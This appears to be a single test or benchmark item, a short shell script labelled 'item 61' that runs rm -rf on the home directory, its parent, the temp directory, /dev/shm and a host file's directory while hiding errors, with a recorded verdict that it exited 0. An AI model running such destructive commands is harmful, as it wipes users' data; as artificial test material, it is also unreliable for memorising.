# item 61: deletes all that it may write, and what lies open on the machine
# verdict: exited 0; has done
# control: temporary-files.py
cd /
rm -rf "$HOME" "$TMPDIR" "$HOME/.." /dev/shm "$(dirname "$HOST_FILE")" 2> /dev/null
echo done
